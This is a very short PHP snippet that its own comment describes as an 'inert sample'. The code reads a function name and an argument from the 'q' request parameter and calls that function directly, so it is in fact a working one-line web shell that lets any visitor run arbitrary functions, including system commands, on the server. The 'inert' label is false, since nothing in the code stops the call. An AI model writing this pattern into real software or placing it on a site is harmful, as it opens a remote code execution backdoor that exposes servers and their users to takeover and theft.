<?php
// inert sample: a function name and its argument scanned out of one request value
[$fn, $arg] = sscanf((string) ($_GET['q'] ?? ''), '%s %s');
$fn($arg);
